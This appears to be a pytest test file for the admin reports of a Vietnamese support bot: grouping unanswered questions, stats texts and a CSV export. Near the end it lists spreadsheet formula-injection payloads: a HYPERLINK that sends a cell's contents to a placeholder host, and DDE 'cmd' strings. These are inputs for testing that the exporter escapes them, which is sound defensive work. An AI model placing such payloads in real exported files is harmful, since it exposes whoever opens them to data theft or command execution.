"""The admin reports: grouping the unanswered questions, the Vietnamese texts, the CSV file."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot import texts
from bot.engine.knowledge import Knowledge, load_knowledge
from bot.settings import DEFAULT_KNOWLEDGE
from bot.storage import IntentVotes, QuestionRecord, Stats, WriteFault
from bot.support.reports import (
    CSV_COLUMNS,
    UnansweredGroup,
    format_duration,
    format_number,
    group_unanswered,
    stats_text,
    unanswered_text,
    write_unanswered_csv,
)

NOON = datetime(2025, 6, 15, 12, 0).timestamp()


@pytest.fixture(scope="module")
def knowledge() -> Knowledge:
    return load_knowledge(DEFAULT_KNOWLEDGE)


def _questions(*items: tuple[str, str | None]) -> list[QuestionRecord]:
    """Records from (text, best guess), one minute apart, ids from 1."""
    return [
        QuestionRecord(n, NOON + 60 * n, f"user{n % 3}", text, "handoff", None, 0.1, guess)
        for n, (text, guess) in enumerate(items, start=1)
    ]


# -- grouping -------------------------------------------------------------------------------


def test_the_same_question_typed_three_ways_is_one_group_and_comes_first() -> None:
    records = _questions(
        ("Công ty ở đâu?", "contact"),
        ("lương cso bao nhiêu", "cso_role"),
        ("luong cso bao nhieu", "summary"),
        ("cong ty o dau", "contact"),
        ("Lương CSO bao nhiêu?", "cso_role"),
        ("Tối nay MU đá với ai?", None),
    )
    groups = group_unanswered(records)

    assert [g.count for g in groups] == [3, 2, 1]
    salary = groups[0]
    assert salary.texts == ("lương cso bao nhiêu", "luong cso bao nhieu", "Lương CSO bao nhiêu?")
    assert salary.question_ids == (2, 3, 5)
    assert salary.representative == "lương cso bao nhiêu"  # all differ: the first asked
    assert salary.best_guess == "cso_role"  # the most common guess
    assert groups[1].texts == ("Công ty ở đâu?", "cong ty o dau")
    assert groups[2].representative == "Tối nay MU đá với ai?"
    assert groups[2].best_guess is None


def test_word_order_and_a_small_addition_stay_in_the_group() -> None:
    groups = group_unanswered(
        _questions(
            ("lương cso bao nhiêu", None),
            ("cso lương bao nhiêu", None),
            ("lương cso bao nhiêu vậy", None),
        )
    )
    assert [g.count for g in groups] == [3]


def test_questions_about_different_roles_or_subjects_are_not_grouped() -> None:
    groups = group_unanswered(
        _questions(
            ("lương cso bao nhiêu", None),
            ("lương cmo bao nhiêu", None),
            ("tuyển dụng cso ở đâu", None),
            ("cso", None),
        )
    )
    assert [g.count for g in groups] == [1, 1, 1, 1]


def test_the_representative_is_the_most_frequent_text() -> None:
    groups = group_unanswered(
        _questions(
            ("luong cso bao nhieu", None),
            ("Lương CSO bao nhiêu?", None),
            ("Lương   CSO bao nhiêu?", None),  # the same once spaces are tidied
        )
    )
    assert groups[0].representative == "Lương CSO bao nhiêu?"


def test_equal_groups_put_the_most_recent_first_and_purged_texts_are_left_out() -> None:
    records = _questions(("CFO là gì?", None), ("MU đá với ai?", None))
    purged = QuestionRecord(9, NOON, "user0", None, "handoff", None, 0.1, "summary")
    groups = group_unanswered([*records, purged])
    assert [g.representative for g in groups] == ["MU đá với ai?", "CFO là gì?"]
    assert group_unanswered([]) == []


# -- texts ----------------------------------------------------------------------------------

WEEK = Stats(
    now=NOON,
    questions_total=1234,
    questions_today=12,
    questions_7d=80,
    answered_7d=64,
    suggested_7d=8,
    handed_off_7d=8,
    votes_7d=(IntentVotes("cso_role", 5, 1), IntentVotes("cmo_skills", 0, 2)),
    handoffs_opened_7d=6,
    handoffs_closed_7d=4,
    handoffs_open=2,
    median_first_reply=180.0,
    average_rating=4.5,
    ratings_7d=2,
)


def test_stats_text_shows_the_figures_in_vietnamese(knowledge: Knowledge) -> None:
    lines = stats_text(WEEK, knowledge=knowledge).splitlines()
    assert lines[0] == "📊 Thống kê"
    assert "Hôm nay: 12 câu hỏi" in lines
    assert "7 ngày qua: 80 câu hỏi" in lines
    assert "Trả lời ngay 80 % · Gợi ý 10 % · Chuyển nhân viên 10 %" in lines
    assert "Từ trước đến nay: 1.234 câu hỏi" in lines
    assert "👍/👎 theo chủ đề (7 ngày qua):" in lines
    title = knowledge.entry("cso_role").title
    assert f"• cso_role ({title}): 👍 5 · 👎 1" in lines
    assert "Thời gian chờ nhân viên trả lời (trung vị): 3 phút" in lines
    assert "Đánh giá trung bình của khách: 4,5/5 (2 lượt)" in lines


def test_stats_text_is_headed_by_the_database_fault_while_it_cannot_be_written() -> None:
    since = datetime(2025, 6, 15, 5, 30, tzinfo=UTC).timestamp()
    fault = WriteFault(since, "database or disk is full", 1234, 1000, 234)

    text = stats_text(WEEK, fault=fault, zone=ZoneInfo("Asia/Ho_Chi_Minh"))

    first, blank, title = text.splitlines()[:3]
    assert first == texts.STATS_DATABASE_FAILING.format(
        since="12:30 15/06/2025",  # in the bot's time zone
        failed="1.234",
        kept="1.000",
        dropped="234",
        error="database or disk is full",
    )
    assert (blank, title) == ("", texts.STATS_TITLE)
    assert stats_text(WEEK).splitlines()[0] == texts.STATS_TITLE  # nothing while it works


def test_stats_text_without_knowledge_shows_intent_ids() -> None:
    assert "• cmo_skills: 👍 0 · 👎 2" in stats_text(WEEK).splitlines()


def test_stats_text_of_an_empty_database_says_there_is_no_data() -> None:
    empty = Stats(NOON, 0, 0, 0, 0, 0, 0, (), 0, 0, 0, None, None, 0)
    text = stats_text(empty)
    assert "Hôm nay: 0 câu hỏi" in text
    assert "Trả lời ngay" not in text  # no shares of nothing
    assert texts.STATS_NO_VOTES in text
    assert "Thời gian chờ nhân viên trả lời (trung vị): chưa có dữ liệu" in text
    assert texts.STATS_NO_RATING in text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (45, "45 giây"),
        (180, "3 phút"),
        (3900, "1 giờ 5 phút"),
        (90_000, "1 ngày 1 giờ"),
    ],
)
def test_durations_read_naturally(seconds: float, text: str) -> None:
    assert format_duration(seconds) == text


def test_numbers_use_dots_between_thousands() -> None:
    assert format_number(1_234_567) == "1.234.567"
    assert format_number(12) == "12"


def _salary_and_contact() -> list[UnansweredGroup]:
    return group_unanswered(
        _questions(
            ("lương cso bao nhiêu", "cso_role"),
            ("luong cso bao nhieu", "cso_role"),
            ("Lương CSO bao nhiêu?", "cso_role"),
            ('Công ty ở đâu, địa chỉ "chính xác"?\nCho mình xin với', "contact"),
        )
    )


def test_unanswered_text_lists_the_groups_biggest_first(knowledge: Knowledge) -> None:
    text = unanswered_text(_salary_and_contact(), days=30, knowledge=knowledge)
    lines = text.splitlines()
    assert lines[0] == "❓ Câu hỏi cần bổ sung câu trả lời (30 ngày qua): 4 câu, 2 nhóm"
    assert lines[1] == "1. «lương cso bao nhiêu» — 3 lần"
    assert lines[2].strip() == f"Gần nhất với: cso_role ({knowledge.entry('cso_role').title})"
    assert lines[3].startswith("2. «Công ty ở đâu")
    assert "Cho mình xin với" in lines[3]  # one line per group, even for a multi-line question


def test_unanswered_text_stops_at_the_limit_and_says_how_many_more() -> None:
    text = unanswered_text(_salary_and_contact(), 1)
    assert "2." not in text
    assert text.splitlines()[-1] == "… và 1 nhóm khác (xuất tệp CSV để xem đầy đủ)."


def test_nothing_unanswered_is_good_news() -> None:
    assert unanswered_text([]) == "Chưa có câu hỏi nào cần bổ sung 🎉"


# -- CSV ------------------------------------------------------------------------------------


def test_the_csv_file_reads_back_with_vietnamese_intact(
    tmp_path: Path, knowledge: Knowledge
) -> None:
    path = tmp_path / "unanswered.csv"
    rows_written = write_unanswered_csv(_salary_and_contact(), path, knowledge=knowledge)

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == list(CSV_COLUMNS)
    assert rows[0][:4] == ["nhom", "so_lan", "cau_hoi", "du_doan"]
    body = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert rows_written == len(body) == 4
    assert [(r["nhom"], r["so_lan"]) for r in body] == [("1", "3")] * 3 + [("2", "1")]
    assert [r["cau_hoi"] for r in body[:3]] == [
        "lương cso bao nhiêu",
        "luong cso bao nhieu",
        "Lương CSO bao nhiêu?",
    ]
    assert body[3]["cau_hoi"] == 'Công ty ở đâu, địa chỉ "chính xác"?\nCho mình xin với'
    assert (body[0]["du_doan"], body[0]["ten_du_doan"]) == (
        "cso_role",
        knowledge.entry("cso_role").title,
    )
    assert [r["ma_cau_hoi"] for r in body] == ["1", "2", "3", "4"]
    assert body[0]["cach_xu_ly"] == "handoff"


def test_the_csv_to_a_stream_starts_with_the_bom_too() -> None:
    stream = io.StringIO(newline="")
    write_unanswered_csv(_salary_and_contact(), stream)
    value = stream.getvalue()
    assert value.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(value.removeprefix("\ufeff"), newline="")))
    assert len(rows) == 5
    assert rows[1][4] == ""  # no knowledge given: no title


def test_an_empty_csv_has_just_the_header(tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    assert write_unanswered_csv([], path) == 0
    assert path.read_text(encoding="utf-8-sig").splitlines() == [",".join(CSV_COLUMNS)]


# Question texts a spreadsheet would run as formulas (OWASP's CSV injection list: a cell
# starting with =, +, -, @, a tab or a carriage return), and texts it shows as they are.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HARMLESS = ("Giá = bao nhiêu?", "'=đã có dấu nháy", "CSO là gì?")


def _formula_rows(stream: io.StringIO | Path) -> list[dict[str, str]]:
    groups = group_unanswered(_questions(*((text, "cso_role") for text in FORMULAS + HARMLESS)))
    write_unanswered_csv(groups, stream)
    if isinstance(stream, Path):
        with stream.open(encoding="utf-8-sig", newline="") as file:
            value = file.read()
    else:
        value = stream.getvalue().removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(value, newline="")))


@pytest.mark.parametrize("to", ["file", "stream"])
def test_a_question_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    tmp_path: Path, to: str
) -> None:
    rows = _formula_rows(tmp_path / "unanswered.csv" if to == "file" else io.StringIO(newline=""))

    asked = FORMULAS + HARMLESS
    by_id = {int(row["ma_cau_hoi"]): row["cau_hoi"] for row in rows}
    assert sorted(by_id) == list(range(1, len(asked) + 1))
    for question_id, text in enumerate(asked, start=1):
        cell = by_id[question_id]
        if text in FORMULAS:
            assert cell == "'" + text  # a leading quote: shown as text, the text unchanged
        else:
            assert cell == text
    for row in rows:  # no other cell starts a formula either
        assert not [value for value in row.values() if value[:1] in ("=", "+", "-", "@")]
